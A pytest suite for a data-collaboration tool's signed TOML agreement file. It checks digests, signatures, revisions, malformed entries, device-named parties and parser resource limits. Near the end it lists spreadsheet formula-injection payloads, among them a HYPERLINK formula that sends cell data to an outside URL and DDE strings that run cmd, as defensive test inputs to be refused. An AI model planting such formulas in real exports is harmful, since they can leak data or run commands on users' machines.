"""The file that everyone holds: what counts as the same, what is refused, and who may have signed it."""

import contextlib
import io
import re
import time
import tomllib
from datetime import date

import pytest
import tomli_w
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from datacollab.agreement import (
    AnchorRecipe,
    Task,
    is_device_name,
    load_project,
    parse_project,
    project_content,
    project_text,
    read_project,
    sign_project_text,
)
from datacollab.bundle import PublicKey, canonical_json, digest, pack
from datacollab.errors import ExchangeError
from datacollab.table import Column
from party_world import refusal as refused

FROM_FIXTURES = settings(suppress_health_check=[HealthCheck.function_scoped_fixture])


def unsigned(text):
    content = tomllib.loads(text)
    del content["signature"]
    return content


def written(content, key):
    """A file with these entries, signed."""
    return sign_project_text(tomli_w.dumps(content), key)


def test_a_project_comes_back_from_its_file(project, regression, make_project, keys, write):
    dated = make_project(deadline=date(2027, 1, 31), seal_shares=True, min_rows=50, min_class_rows=5)
    for each in (project, regression, dated):
        loaded = load_project(write("project.toml", project_text(each, keys["a"], drafted=True)))
        assert loaded == each
        assert loaded.digest == each.digest
        assert loaded.feature_names == each.feature_names
    assert len({each.digest for each in (project, regression, dated)}) == 3


def test_the_digest_is_that_of_the_content(project):
    assert project.digest == digest(canonical_json(project_content(project)))
    assert project.feature_names == (
        *("age", "ward=north", "ward=south", "ward=1", "dose", "dose is missing", "sex=f", "sex=m"),
    )
    assert project.n_features == 8


@pytest.mark.slow
@FROM_FIXTURES
@given(
    line_end=st.sampled_from(["\n", "\r\n"]),
    blank=st.sampled_from(["", "\n\n", "  # a comment\n", "\t\n"]),
    order=st.permutations(range(8)),
    reverse=st.booleans(),
    mark=st.sampled_from(["", "\ufeff"]),
)
def test_layout_does_not_matter(project, text, write, line_end, blank, order, reverse, mark):
    """Line ends, comments, blank lines, the order of tables and of entries: the same agreement, still signed."""
    content = tomllib.loads(text)
    columns = content.pop("columns")
    members = content.pop("members")
    parties = members.pop("parties")
    tables = [(f"[{name}]", entries) for name, entries in content.items()]
    tables += [("[members]", members), ("[members.parties]", parties)]
    assert len(tables) == 7
    blocks = [*tables, None]
    parts = []
    for position in order:
        if blocks[position] is None:
            parts += [("[[columns]]", column) for column in columns]
        else:
            parts.append(blocks[position])
    shuffled = [(head, dict(sorted(entries.items(), reverse=reverse))) for head, entries in parts]
    lines = "".join(f"{blank}{head}\n{tomli_w.dumps(entries)}" for head, entries in shuffled)
    loaded = load_project(write("project.toml", (mark + lines.replace("\n", line_end)).encode()))
    assert loaded == project
    assert loaded.digest == project.digest
    assert list(loaded.parties) == ["a", "b"]


def test_whole_and_broken_numbers_are_the_same_agreement(text, project, write):
    assert "minimum = 0.0" in text
    for other in ("0", "-0", "-0.0", "0e0"):
        loaded = load_project(write("project.toml", text.replace("minimum = 0.0", f"minimum = {other}")))
        assert loaded.digest == project.digest


def leaves(value, path=()):
    if isinstance(value, dict):
        for name, entry in value.items():
            yield from leaves(entry, (*path, name))
    elif isinstance(value, list):
        for position, entry in enumerate(value):
            yield from leaves(entry, (*path, position))
    else:
        yield path


def changed(content, path):
    """The content with one entry replaced by another of its type."""
    value = content
    for step in path[:-1]:
        value = value[step]
    old = value[path[-1]]
    if isinstance(old, bool):
        value[path[-1]] = not old
    elif isinstance(old, int | float):
        value[path[-1]] = old + 1
    else:
        value[path[-1]] = old + "x"
    return content


def test_every_entry_is_under_the_signature(text, write):
    """Whatever is changed, the file is refused: as changed, or because the change makes no sense."""
    signature = text[text.index("[signature]") :]
    paths = list(leaves(unsigned(text)))
    assert len(paths) > 40
    codes = {}
    for path in paths:
        forged = tomli_w.dumps(changed(unsigned(text), path)) + "\n" + signature
        with pytest.raises(ExchangeError) as caught:
            load_project(write("project.toml", forged))
        codes[path] = caught.value.code
    assert set(codes.values()) == {"SIGNATURE_INVALID", "SPEC_INVALID", "KEY_MALFORMED", "FORMAT_TOO_NEW"}
    assert [path for path, code in codes.items() if code == "FORMAT_TOO_NEW"] == [("project", "format_version")]
    kept = {codes["task", "target"], codes["columns", 0, "maximum"], codes["rules", "min_rows"]}
    assert kept == {"SIGNATURE_INVALID"}


def test_columns_in_another_order_are_another_agreement(text, write):
    content = unsigned(text)
    content["columns"].reverse()
    forged = tomli_w.dumps(content) + "\n" + text[text.index("[signature]") :]
    refused("SIGNATURE_INVALID", load_project, write("project.toml", forged))


def test_a_signature_is_the_owners(project, text, keys, write):
    import base64

    other = base64.b64encode(keys["stranger"].sign(b"anything")).decode()
    same_words = base64.b64encode(keys["a"].sign(canonical_json(project_content(project)))).decode()
    for forged in (other, same_words, "", "AAAA", other[:-4]):
        message = refused(
            "SIGNATURE_INVALID", load_project, write("p.toml", re.sub('ed25519 = ".*"', f'ed25519 = "{forged}"', text))
        )
        assert "p.toml" in message
    refused("SIGNATURE_INVALID", load_project, write("p.toml", re.sub('ed25519 = "', 'ed25519 = "!', text)))
    message = refused("SIGNATURE_MISSING", load_project, write("p.toml", text[: text.index("[signature]")]))
    assert "datacollab project revise" in message


def test_only_the_owner_signs(project, text, keys):
    for name in ("b", "analyst", "stranger"):
        assert "owner" in refused("NOT_A_MEMBER", project_text, project, keys[name])
        refused("NOT_A_MEMBER", sign_project_text, text, keys[name])


def test_every_change_of_a_signed_file_is_a_later_revision(project, text, keys, write):
    assert "revision" not in text
    first = sign_project_text(text, keys["a"])
    assert first == text
    second = sign_project_text(text.replace("maximum = 120.0", "maximum = 110"), keys["a"])
    third = sign_project_text(second.replace("maximum = 110", "maximum = 100"), keys["a"])
    loaded = [load_project(write(f"{n}.toml", each)) for n, each in enumerate((first, second, third))]
    assert [each.revision for each in loaded] == [1, 2, 3]
    assert third.count("revision") == 1
    undone = third.replace("maximum = 100", "maximum = 120")
    back = load_project(write("back.toml", sign_project_text(undone, keys["a"])))
    assert back.columns == project.columns
    assert (back.revision, back.digest != project.digest) == (4, True)
    unsigned_text = text[: text.index("[signature]")]
    assert load_project(write("new.toml", sign_project_text(unsigned_text, keys["a"]))).revision == 1


def test_signing_copes_with_a_signature_elsewhere(text, keys, write):
    start = text.index("[signature]")
    moved = text[start:] + "\n" + text[:start]
    assert load_project(write("project.toml", sign_project_text(moved, keys["a"])))
    inline = text[:start].replace("[project]", 'signature = {ed25519 = ""}\n[project]')
    assert "by hand" in refused("SPEC_INVALID", sign_project_text, inline, keys["a"])


UNKNOWN = {
    "general": ("[project]", "[project]\nowner = 'me'", ["'owner'", "[project]", "purpose"]),
    "recipe": ("[anchor]", "[anchor]\nrows = 3", ["'rows'", "[anchor]", "n_rows"]),
    "member": ("[members]", "[members]\nanalysts = 'x'", ["'analysts'", "[members]", "Did you mean analyst?"]),
    "entry": ("min_rows = 20", "min_row = 20", ["'min_row'", "[rules]", "min_class_rows", "Did you mean min_rows?"]),
    "table": ("[anchor]", "[extra]\nx = 1\n[anchor]", ["'extra'", "columns"]),
    "column": ('unit = "mg"', 'unit = "mg"\nmin = 1', ["'min'", "'dose'", "minimum"]),
    "signature": ("[signature]", "[signature]\nby = 1", ["'by'", "ed25519"]),
    "of the other kind": ('unit = "years"', 'categories = ["x", "y"]\nunit = "years"', ["'categories'", "'age'"]),
    "fill without need": ('name = "age"', 'name = "age"\nfill = 3', ["'fill'"]),
    "class of a regression": ("[task]", "[task]\nunit = 'days'", ["'unit'", "classes"]),
}


@pytest.mark.parametrize("case", UNKNOWN)
def test_unknown_entries_are_named_with_those_allowed(text, write, case):
    old, new, words = UNKNOWN[case]
    assert text.count(old) == 1
    message = refused("SPEC_INVALID", load_project, write("project.toml", text.replace(old, new)))
    for word in ["project.toml", *words]:
        assert word in message


WRONG = {
    "no TOML": ("[rules]", "[rules", "line"),
    "twice": ("[rules]", "[rules]\nquorum = 2", "line"),
    "missing": ('kind = "classification"', "", "kind is missing"),
    "missing table": ("[anchor]", "[anchors]", "anchor is missing"),
    "missing number": ("minimum = 0.0", "", "minimum is missing. Add it: a number."),
    "missing list": ("categories = [", "labels = [", "categories is missing. Add it: a list."),
    "text for a number": ("quorum = 2", 'quorum = "2"', "expected a whole number, got text"),
    "point for a whole number": ("quorum = 2", "quorum = 2.0", "got a number with a point"),
    "truth for a number": ("quorum = 2", "quorum = true", "got true or false"),
    "number for a truth": ("seal_shares = true", "seal_shares = 0", "expected true or false"),
    "time": ("quorum = 2", "quorum = 2\ndeadline = 2027-01-31T12:00:00", "a date with a time"),
    "text for a date": ("quorum = 2", 'quorum = 2\ndeadline = "2027-01-31"', "without quotes"),
    "impossible date": ("quorum = 2", "quorum = 2\ndeadline = 2027-02-31", "no TOML"),
    "infinite": ("maximum = 120.0", "maximum = inf", "finite"),
    "not a number": ("maximum = 120.0", "maximum = nan", "finite"),
    "huge": ("quorum = 2", f"quorum = 1{'0' * 30}", "too large"),
    "huge bound": ("maximum = 120.0", f"maximum = 1{'0' * 400}", "finite"),
    "digits without end": ("quorum = 2", f"quorum = 1{'0' * 9000}", "no TOML"),
    "nested without end": ("quorum = 2", f"quorum = {'[' * 20000}", "no TOML"),
    "mixed classes": ('"unclear"', "7", "text and some are numbers"),
    "float class": ('"unclear"', "7.5", "a number with a point"),
    "escape": ('name = "heart"', 'name = "he\\u001b[31mart"', "invisible"),
    "bidirectional": ('name = "heart"', 'name = "he\\u202eart"', "invisible"),
    "version 0": ("format_version = 1", "format_version = 0", "format_version"),
    "a table for a column": ("[[columns]]", "[columns]", "line"),
    "method": ('method = "smote"', 'method = "gan"', "smote, uniform, gaussian or sample"),
    "kind": ('kind = "classification"', 'kind = "ranking"', "expected classification, regression"),
}


@pytest.mark.parametrize("case", WRONG)
def test_impossible_entries_are_refused_with_what_is_wanted(text, write, case):
    old, new, words = WRONG[case]
    assert old in text
    message = refused("SPEC_INVALID", load_project, write("project.toml", text.replace(old, new, 1)))
    assert message.startswith(str(write("project.toml", "")))
    assert words in message


def test_files_that_are_no_project(text, write):
    refused("SPEC_INVALID", load_project, write("project.toml", b"\xff\xfe" + text.encode("utf-16-le")))
    refused("SPEC_INVALID", load_project, write("project.toml", ""))
    assert "no text" in refused("SPEC_INVALID", load_project, write("project.toml", b"\x89PNG\r\n\x1a\n\0\0\0"))
    refused("TOO_LARGE", load_project, write("project.toml", "#" * (2**20 + 1)))
    message = refused("FORMAT_TOO_NEW", load_project, write("project.toml", "[project]\nformat_version = 2\nnew = 1"))
    assert "Upgrade" in message
    cut = write("p.toml", re.sub('analyst = "dcpub1', 'analyst = "dcpub', text))
    message = refused("KEY_MALFORMED", load_project, cut)
    assert "[members], analyst" in message


def test_a_bundle_in_place_of_the_project_is_called_what_it_is(keys, write):
    anchor = write("anchor.dcanchor", pack("datacollab.anchor", {}, {"sealed.bin": b"x" * 999}, key=keys["a"]))
    message = refused("WRONG_KIND", load_project, anchor)
    assert message.startswith(f"{anchor} is a bundle (datacollab.anchor); expected the project file first")
    damaged = write("anchor.dcanchor", anchor.read_bytes()[:-9])
    assert "is a damaged bundle; expected the project" in refused("WRONG_KIND", load_project, damaged)


def number(**changes):
    return Column(**({"name": "x", "kind": "number", "minimum": 0, "maximum": 1} | changes))


def category(**changes):
    return Column(**({"name": "x", "kind": "category", "categories": ("p", "q")} | changes))


def classes(*given, **changes):
    return Task(**({"kind": "classification", "target": "y", "classes": given} | changes))


CONTRADICTIONS = {
    "order of a range": lambda make: number(minimum=1),
    "half a range": lambda make: number(maximum=None),
    "number with categories": lambda make: number(categories=("p", "q")),
    "category with a range": lambda make: category(minimum=0.0),
    "category with a unit": lambda make: category(unit="mg"),
    "one category": lambda make: category(categories=("p",)),
    "category twice": lambda make: category(categories=("p", "p")),
    "empty category": lambda make: category(categories=("p", "")),
    "kind": lambda make: number(kind="date"),
    "missing": lambda make: number(missing="mean"),
    "fill outside": lambda make: number(missing="fill", fill=2),
    "fill of another type": lambda make: number(missing="fill", fill="p"),
    "no fill": lambda make: number(missing="fill"),
    "fill is not a number": lambda make: number(missing="fill", fill=float("nan")),
    "fill unknown": lambda make: category(missing="fill", fill="r"),
    "no unknown ones": lambda make: category(unknown="other", most_unknown=0.0),
    "more than all": lambda make: category(unknown="other", most_unknown=1.5),
    "most of what is refused": lambda make: category(most_unknown=0.2),
    "most of a number": lambda make: number(most_unknown=0.2),
    "flag without filling": lambda make: number(flag_missing=True),
    "no name": lambda make: number(name=""),
    "long name": lambda make: number(name="x" * 201),
    "name with a line break": lambda make: number(name="x\ny"),
    "one class": lambda make: classes("no"),
    "class twice": lambda make: classes("no", "no"),
    "huge class": lambda make: classes(0, 2**63),
    "truth as a class": lambda make: classes(True, False),
    "classes of a regression": lambda make: classes("no", "yes", kind="regression", minimum=0, maximum=1),
    "regression without a range": lambda make: Task(kind="regression", target="y"),
    "classification with a range": lambda make: classes("no", "yes", minimum=0.0, maximum=1.0),
    "one anchor row": lambda make: AnchorRecipe(n_rows=1),
    "column twice": lambda make: make(columns=(number(), number()), max_components=1),
    "target is a column": lambda make: make(columns=(number(name="ill"),), max_components=1),
    "names that become equal": lambda make: make(columns=(number(name="x=p"), category()), max_components=1),
    "no columns": lambda make: make(columns=()),
    "more components than columns": lambda make: make(max_components=9),
    "no component": lambda make: make(max_components=0),
    "quorum above the parties": lambda make: make(quorum=3),
    "no rows": lambda make: make(min_rows=0),
    "empty purpose": lambda make: make(purpose=""),
    "revision 0": lambda make: make(revision=0),
}


@pytest.mark.parametrize("case", CONTRADICTIONS)
def test_contradictions_are_refused(make_project, case):
    refused("SPEC_INVALID", CONTRADICTIONS[case], make_project)


@pytest.mark.parametrize("name", ["", "-rf", "a/b", "..", "a b", "é", "a\n", "x" * 65, "a.b"])
def test_names_of_parties_become_files(make_project, keys, name):
    parties = {name: keys["a"].public, "b": keys["b"].public}
    refused("SPEC_INVALID", make_project, parties=parties)


@pytest.mark.parametrize(
    "name", ["con", "NUL", "Aux", "prn", "com1", "LPT9", "nul.txt", "con ", "aux.", "Com5 .dcshare"]
)
def test_names_of_devices_name_no_party(make_project, keys, name):
    parties = {name: keys["a"].public, "b": keys["b"].public}
    refused("SPEC_INVALID", make_project, parties=parties)
    assert is_device_name(name)


@pytest.mark.parametrize("name", ["console", "null", "com10", "auxiliary", "con_1", "lpt"])
def test_names_that_are_like_those_of_devices_are_names(make_project, keys, name):
    make_project(parties={name: keys["a"].public, "b": keys["b"].public})
    assert not is_device_name(name)


def test_no_one_has_two_roles_that_exclude_one_another(make_project, keys):
    a, b, analyst, stranger = (keys[name].public for name in ("a", "b", "analyst", "stranger"))
    assert "anchor" in refused("SPEC_INVALID", make_project, owner=analyst)
    assert "analyst" in refused("SPEC_INVALID", make_project, analyst=b)
    assert "same key" in refused("SPEC_INVALID", make_project, parties={"a": a, "b": a})
    assert "capital" in refused("SPEC_INVALID", make_project, parties={"a": a, "A": b})
    refused("SPEC_INVALID", make_project, parties={"a": a})
    assert make_project(owner=stranger).owner == stranger


def test_what_is_read_on_the_telephone_is_the_beginning_of_the_digest(make_project):
    """A hundred bits: no other project has them but by as many trials as nobody can make."""
    project = make_project()
    spelt = project.fingerprint
    assert re.fullmatch("([a-z2-7]{4}-){4}[a-z2-7]{4}", spelt)
    letters = "abcdefghijklmnopqrstuvwxyz234567"
    number = sum(32**place * letters.index(letter) for place, letter in enumerate(reversed(spelt.replace("-", ""))))
    assert number == int(project.digest, 16) >> 156
    assert make_project(quorum=1).fingerprint != spelt


def test_neither_half_of_a_key_is_another_members(make_project, keys):
    a, b, analyst, stranger = (keys[name].public for name in ("a", "b", "analyst", "stranger"))
    mixed = [
        ("sealing", {"parties": {"a": a, "b": PublicKey(b.signing, a.sealing)}}),
        ("signing", {"parties": {"a": a, "b": PublicKey(a.signing, b.sealing)}}),
        ("sealing", {"analyst": PublicKey(analyst.signing, b.sealing)}),
        ("signing", {"owner": PublicKey(a.signing, stranger.sealing)}),
    ]
    for half, changes in mixed:
        assert f"same {half} half" in refused("SPEC_INVALID", make_project, **changes)


@FROM_FIXTURES
@given(st.data())
def test_whatever_the_file_holds_it_is_refused_or_equal(text, project, write, data):
    """Bytes changed, cut out and put in at any place."""
    raw = bytearray(text.encode())
    for _ in range(data.draw(st.integers(1, 4))):
        start = data.draw(st.integers(0, len(raw)))
        end = data.draw(st.integers(start, min(len(raw), start + 8)))
        raw[start:end] = data.draw(st.binary(max_size=8) | st.sampled_from([b'"', b"\n", b"[", b"]", b"= ", b"0"]))
    try:
        loaded = load_project(write("project.toml", bytes(raw)))
    except ExchangeError:
        return
    assert loaded == project


@pytest.mark.parametrize(
    "key",
    [
        "a" + ".a" * 40_000,
        "a . b . c . d . e",
        '"a b".c.d."e".f',
        "[a.b.c.d.e]\nx",
        "[[a.b.c.d.e]]\nx",
        "x = {a.b.c.d.e",
    ],
    ids=["many", "with spaces", "quoted", "table", "tables", "inline"],
)
def test_keys_of_many_names_are_refused_before_the_file_is_parsed(text, write, key):
    """They keep the parser busy for long, before any signature can be looked at."""
    start = time.process_time()
    refused("TOO_LARGE", load_project, write("project.toml", f"{text}\n{key} = 1\n"))
    assert time.process_time() - start < 10


@pytest.mark.parametrize(
    "line",
    [
        "# see www.a.b.c.d.e for more",
        'purpose = "www.a.b.c.d.e"',
        "purpose = 'a.b.c.d.e'",
        'purpose = """\na.b.c.d.e"""',
    ],
)
def test_dots_in_texts_and_comments_are_no_keys(text, write, line, keys):
    old = next(each for each in text.splitlines() if each.startswith("purpose"))
    changed = text.replace(old, line if line.startswith("purpose") else f"{line}\n{old}")
    signed = sign_project_text(changed, keys["a"])
    load_project(write("project.toml", signed))


@pytest.mark.slow
@given(pieces=st.lists(st.sampled_from(['"', "'", "#", "\n", "\\", "a", ".", " ", "=", "[", '"""', "'''"]), max_size=8))
@settings(deadline=None, max_examples=20)
def test_no_text_keeps_the_look_at_its_keys_busy(pieces):
    text = ("".join(pieces) * 2**17)[: 2**20]
    start = time.process_time()
    with contextlib.suppress(ExchangeError):
        parse_project(text, what="project.toml")
    assert time.process_time() - start < 20


def test_more_columns_than_anybody_agrees_on(text, write):
    column = '\n[[columns]]\nname = "many"\nkind = "category"\ncategories = ["a"'
    many = column + "".join(f', "a{number}"' for number in range(10_000)) + "]\n"
    message = refused("TOO_LARGE", load_project, write("project.toml", text + many))
    assert "10000 are allowed" in message


def test_what_was_verified_is_what_is_kept(project, text, write, monkeypatch):
    """A file that is exchanged between two looks at it is read once."""
    path = write("project.toml", text)
    reads = []

    def swapped(file, *arguments, **options):
        reads.append(file)
        return io.BytesIO(text.encode() if len(reads) == 1 else b"another project")

    monkeypatch.setattr("datacollab.agreement._project_file.open_regular", swapped)
    loaded, data = read_project(path)
    assert (loaded, data) == (project, text.encode())
    assert len(reads) == 1


FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"more")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    " =A1",
    "\uff1dA1",
    "\uff0bA1",
]


def task(name):
    return Task(kind="classification", target="ill", classes=("no", name), positive=name)


@pytest.mark.parametrize("name", FORMULAS)
def test_classes_that_a_spreadsheet_would_compute_are_refused(name):
    with pytest.raises(ExchangeError, match="would compute it as a formula. Choose another name") as caught:
        task(name)
    assert caught.value.code == "SPEC_INVALID"
    assert "'ill', a class" in str(caught.value)


@given(st.text(alphabet="=+-@ .,;%0123456789eEabcXYZ()|!'\uff1d", min_size=1, max_size=12))
def test_what_is_a_class_is_no_formula(name):
    assume(name.isprintable() and name != "no")
    try:
        task(name)
    except ExchangeError:
        assume(False)
    shown = name.strip().replace("\uff1d", "=")
    is_number = True
    try:
        float(shown.rstrip("%"))
    except ValueError:
        is_number = False
    assert is_number or shown[:1] not in "=+-@" or not set(shown) - set("=+-@ .,;%()|!'")
